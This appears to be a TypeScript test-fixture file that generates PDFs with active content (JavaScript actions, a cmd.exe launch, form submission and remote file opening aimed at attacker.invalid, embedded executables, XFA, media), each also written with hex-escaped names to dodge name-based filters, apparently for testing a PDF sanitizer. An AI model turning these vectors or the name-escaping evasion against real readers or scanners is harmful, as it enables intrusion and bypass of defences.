import { onePage, stream, writeFoldedPdf, writePdf } from './raw-pdf.ts'

export type Hostile = { what: string; bytes: Buffer }

/** An action that runs a script. */
export const script = '/S /JavaScript /JS (app.alert\\(1\\))'
const file = '/Type /Filespec /F (a.exe) /EF << /F 6 0 R >>'
/** What acts: entries of the catalog, entries of the page, one more object (number 5), and a file (number 6). */
const acting: Record<string, [catalog: string, page: string, object: string]> = {
  'script at opening': ['/OpenAction 5 0 R', '', `<< ${script} >>`],
  'script at opening, direct': [`/OpenAction << ${script} >>`, '', 'null'],
  'script named': ['/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', '', `<< ${script} >>`],
  'script that nothing points to': ['', '', `<< ${script} >>`],
  'script in a stream': ['/OpenAction << /S /JavaScript /JS 5 0 R >>', '', stream('app.alert(1)')],
  'script after a jump': ['/OpenAction 5 0 R', '', `<< /S /GoTo /D [3 0 R /Fit] /Next << ${script} >> >>`],
  'script of a page': ['', '/AA << /O 5 0 R >>', `<< ${script} >>`],
  'script at closing': ['/AA << /WC 5 0 R >>', '', `<< ${script} >>`],
  'script of a field': [
    '/AcroForm << /Fields [5 0 R] >>',
    '',
    `<< /FT /Tx /T (a) /AA << /K << ${script} >> >> >>`,
  ],
  'script of a link': [
    '',
    '/Annots [5 0 R]',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${script} >> >>`,
  ],
  'program launched': ['/OpenAction 5 0 R', '', '<< /S /Launch /F (cmd.exe) >>'],
  'program launched by a link': [
    '',
    '/Annots [5 0 R]',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (x) >> >>',
  ],
  'page opened at opening': ['/OpenAction 5 0 R', '', '<< /S /URI /URI (https://attacker.invalid) >>'],
  'another file opened': [
    '/OpenAction 5 0 R',
    '',
    '<< /S /GoToR /F (//attacker.invalid/a.pdf) /D [0 /Fit] >>',
  ],
  'a file within opened': [
    '',
    '/Annots [5 0 R]',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToE /T << >> >> >>',
  ],
  'form sent': [
    '/OpenAction 5 0 R',
    '',
    '<< /S /SubmitForm /F << /FS /URL /F (https://attacker.invalid) >> >>',
  ],
  'data fetched': ['/OpenAction 5 0 R', '', '<< /S /ImportData /F (a.fdf) >>'],
  'file within': ['/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>', '', `<< ${file} >>`],
  'file pinned to the page': [
    '',
    '/Annots [5 0 R]',
    `<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << ${file} >> >>`,
  ],
  'file belonging to it': ['/AF [5 0 R]', '', `<< ${file} /AFRelationship /Data >>`],
  'rich media': [
    '',
    '/Annots [5 0 R]',
    '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>',
  ],
  film: ['', '/Annots [5 0 R]', '<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.mov) >> >>'],
  sound: [
    '',
    '/Annots [5 0 R]',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Sound /Sound 6 0 R >> >>',
  ],
  rendition: [
    '',
    '/Annots [5 0 R]',
    '<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 >> >>',
  ],
  'form with a logic of its own': ['/AcroForm << /Fields [] /XFA 5 0 R >>', '', stream('<xdp:xdp/>')],
  'model in three dimensions': [
    '',
    '/Annots [5 0 R]',
    '<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >>',
  ],
}

/** PDFs that do something by themselves, each plain, folded and with its names spelt by numbers. */
export function activePdfs(): Hostile[] {
  return Object.entries(acting).flatMap(([what, [catalog, page, object]]) => {
    const objects = [...onePage({ catalog, page }), object, stream('MZ', '/Type /EmbeddedFile')]
    const without = objects.slice(0, -1)
    const within = what.includes('file') || /sound|model/.test(what) ? objects : without
    // A name may be spelt by numbers: `/J#53` is `/JS` (ISO 32000-2, 7.3.5).
    const spelt = within.map((one) =>
      one.replaceAll(
        /\/(JS|JavaScript|Launch|AA|EF|XFA|EmbeddedFiles?|SubmitForm|GoTo[RE]|OpenAction)\b/g,
        (name) => `/#${name.charCodeAt(1).toString(16)}${name.slice(2)}`,
      ),
    )
    return [
      { what, bytes: writePdf(within) },
      { what: `${what}, folded`, bytes: writeFoldedPdf(within) },
      { what: `${what}, spelt by numbers`, bytes: writeFoldedPdf(spelt) },
    ]
  })
}
